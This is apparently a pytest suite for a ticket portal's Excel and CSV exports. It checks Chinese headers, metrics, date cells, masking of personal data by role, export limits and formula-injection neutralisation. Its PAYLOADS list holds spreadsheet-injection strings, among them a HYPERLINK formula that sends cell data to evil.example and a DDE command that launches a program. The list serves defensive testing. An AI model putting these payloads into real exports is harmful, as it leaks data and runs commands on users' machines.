"""Exports open in Excel (openpyxl here) and as CSV, with Chinese headers, dates as dates, the same
figures as the dashboard, and no cell that could run as a formula."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from portal.customers.operations import change_status
from portal.core.enums import MaintenanceStatus
from portal.extensions import db
from portal.metrics import exports, routes
from tests.metrics.helpers import add_callback, add_ticket

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0"]


def workbook(response):
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == exports.XLSX_MIMETYPE
    return load_workbook(io.BytesIO(response.data))


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the Chinese text as UTF-8
    return list(csv.reader(io.StringIO(text[1:])))


def summary(ws) -> dict:
    return {row[0]: row[1] for row in ws.iter_rows(min_row=2, values_only=True)}


def test_dashboard_excel_has_the_dashboard_s_figures(sept, auth):
    wb = workbook(auth.client_for("admin").get("/metrics/export.xlsx?period=2025-09"))
    assert wb.sheetnames == ["指标汇总", "趋势", "按工程师", "按维护级别", "服务时限达成", "服务时限达成趋势"]
    ws = wb["指标汇总"]
    assert [c.value for c in ws[1]] == ["指标", "数值", "目标", "是否达标"]
    s = summary(ws)
    assert s["受理问题"] == 6 and s["已解决问题"] == 3
    assert s["解决率"] == pytest.approx(0.5)
    assert s["响应时间中位数（工作小时）"] == pytest.approx(2.0)
    assert s["响应时间 P90（工作小时）"] == pytest.approx(12.4)
    assert s["解决时长中位数（工作小时）"] == pytest.approx(26.0)
    assert s["期限内解决率"] == pytest.approx(0.4)
    assert s["满意率（4–5 分占比）"] == pytest.approx(0.5)
    assert s["平均满意度（1–5 分）"] == pytest.approx(3.5)
    assert s["服务工时（小时）"] == pytest.approx(11.0)
    assert s["收到投诉"] == 2
    rate_row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == "解决率")
    assert rate_row[1].number_format == "0.0%" and rate_row[3].value == "否"
    trend = wb["趋势"]
    assert trend.max_row == 13  # header + 12 months
    last = [c for c in trend[13]]
    assert last[0].value == "2025年9月" and last[1].is_date and last[1].value == datetime(2025, 9, 1)
    assert last[3].value == 6  # raised
    engineers = {r[0]: r for r in wb["按工程师"].iter_rows(min_row=2, values_only=True)}
    assert engineers["engineer"][1:3] == (2, 2)


def test_dashboard_csv_tables(sept, auth):
    client = auth.client_for("admin")
    rows = csv_rows(client.get("/metrics/export.csv?period=2025-09&table=summary"))
    assert rows[0] == ["指标", "数值", "目标", "是否达标"]
    values = {r[0]: r[1] for r in rows[1:]}
    assert (values["受理问题"], values["解决率"], values["响应时间 P90（工作小时）"]) == ("6", "50.0%", "12.4")
    trend = csv_rows(client.get("/metrics/export.csv?period=2025-09&table=trend"))
    assert trend[-1][:4] == ["2025年9月", "2025-09-01", "2025-09-30", "6"]
    assert client.get("/metrics/export.csv?period=2025-09&table=nonsense").status_code == 404


def test_ticket_list_export_applies_the_list_filters(sept, auth):
    client = auth.client_for("admin")
    wb = workbook(client.get("/tickets/export.xlsx?date_from=2025-09-01&date_to=2025-09-30&solved=1&sort=oldest"))
    ws = wb.active
    header = [c.value for c in ws[1]]
    assert header[:3] == ["单号", "问题类型", "状态"] and "登记时间" in header
    numbers = [r[0] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert numbers == [sept.T1.number, sept.T2.number, sept.T5.number]
    registered = ws.cell(row=2, column=header.index("登记时间") + 1)
    assert registered.is_date and registered.value == datetime(2025, 9, 1, 9, 0)  # local time, not UTC
    rows = csv_rows(client.get("/tickets/export.csv?date_from=2025-09-01&date_to=2025-09-30&assignee_id="
                               f"{sept.e2.id}"))
    assert sorted(r[0] for r in rows[1:]) == sorted([sept.T3.number, sept.T7.number])
    assert rows[1][header.index("登记时间")].startswith("2025-09-")


def test_ticket_export_shows_an_engineer_only_what_the_list_shows_with_personal_data_masked(sept, auth):
    rows = csv_rows(auth.client_for("engineer").get("/tickets/export.csv?sort=oldest"))
    header, rows = rows[0], {r[0]: r for r in rows[1:]}
    # assigned to them: T1 (closed) and T2; T1 is theirs, so nothing is masked
    assert rows[sept.T1.number][header.index("联系电话")] == "13800138000"
    # waiting in their department's queue (registered, development): T4 and T8, T9
    assert sept.T4.number in rows
    # assigned to another engineer and still open: not visible at all
    assert sept.T3.number not in rows and sept.T7.number not in rows


def test_a_closed_ticket_an_engineer_never_had_is_exported_masked(sept, auth):
    rows = csv_rows(auth.client_for("engineer2").get("/tickets/export.csv"))
    header, rows = rows[0], {r[0]: r for r in rows[1:]}
    assert rows[sept.T1.number][header.index("联系电话")] == "138****8000"
    assert rows[sept.T1.number][header.index("反馈人")] == "刘**"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_payloads_are_neutralised_in_xlsx_and_csv(users, unit_factory, auth, payload):
    unit = unit_factory()
    t = add_ticket(unit, "2025-09-01 09:00")
    t.summary, t.reporter_name, t.reporter_dept = payload, payload[:64], payload[:100]
    db.session.commit()
    client = auth.client_for("admin")
    ws = workbook(client.get("/tickets/export.xlsx")).active
    header = [c.value for c in ws[1]]
    for name in ("问题摘要", "反馈人", "科室"):
        cell = ws.cell(row=2, column=header.index(name) + 1)
        assert cell.data_type == "s" and cell.value.startswith("'"), (name, cell.value)
        # (XML keeps no CR: a CR comes back as LF)
        assert cell.value[1:] == payload.replace("\r", "\n")[:len(cell.value) - 1]
    rows = csv_rows(client.get("/tickets/export.csv"))
    for name in ("问题摘要", "反馈人", "科室"):
        field = rows[1][rows[0].index(name)]
        assert field.startswith("'") and not field.startswith(exports.DANGEROUS_FIRST)


def test_neutralise_leaves_ordinary_text_and_numbers_alone():
    assert exports.neutralise("打印机无法打印") == "打印机无法打印"
    assert exports.neutralise("A=1") == "A=1"
    table = exports.Table("t", [exports.Column("n", "int"), exports.Column("s")], [[-5, "-5"]])
    rows = list(csv.reader(io.StringIO(exports.to_csv(table).decode("utf-8")[1:])))
    assert rows[1] == ["-5", "'-5"]  # a negative number stays a number; text that looks like one does not


def test_a_unit_s_history_export_lists_everything_in_time_order(sept, users, auth):
    add_callback(sept.B, "2025-09-30 10:00", 5, kind="visit")
    change_status(sept.B, MaintenanceStatus.VIP, "续签VIP合同", users["market_manager"])
    db.session.commit()
    client = auth.client_for("cs")
    ws = workbook(client.get(f"/metrics/units/{sept.B.id}/history.xlsx")).active
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    kinds = [r[1] for r in rows]
    assert kinds[:2] == ["维护问题", "维护问题"]  # T8 (August), T3 …
    assert "每月电话回访" in kinds and "上门回访" in kinds and "投诉" in kinds and "维护状态" in kinds
    times = [r[0] for r in rows]
    assert all(isinstance(t, datetime) for t in times) and times == sorted(times)
    csv_data = csv_rows(client.get(f"/metrics/units/{sept.B.id}/history.csv"))
    assert csv_data[0][:3] == ["时间", "类别", "单号"] and len(csv_data) == len(rows) + 1
    assert client.get("/metrics/units/999999/history.xlsx").status_code == 404
    assert auth.client_for("engineer").get(f"/metrics/units/{sept.B.id}/history.xlsx").status_code == 403


def test_a_too_large_ticket_export_is_refused_with_a_message(sept, auth, monkeypatch):
    monkeypatch.setattr(routes, "EXPORT_LIMIT", {"xlsx": 3, "csv": 3})
    r = auth.client_for("admin").get("/tickets/export.xlsx")
    assert r.status_code == 422
    assert "缩小" in r.get_data(as_text=True)
    assert auth.client_for("admin").get("/tickets/export.xlsx?date_from=2025-09-01&date_to=2025-09-05").status_code == 200


def test_unknown_export_formats_are_404(auth):
    assert auth.client_for("admin").get("/tickets/export.pdf").status_code == 404
    assert auth.client_for("admin").get("/metrics/export.json").status_code == 404


def test_dates_in_exports_are_date_cells():
    table = exports.Table("t", [exports.Column("日期", "date"), exports.Column("时间", "datetime")],
                          [[date(2025, 9, 1), datetime(2025, 9, 1, 1, 0)]])
    ws = load_workbook(io.BytesIO(exports.to_xlsx([table]))).active
    assert ws["A2"].is_date and ws["B2"].is_date
    assert ws["B2"].value == datetime(2025, 9, 1, 9, 0)  # 01:00 UTC is 09:00 in Shanghai
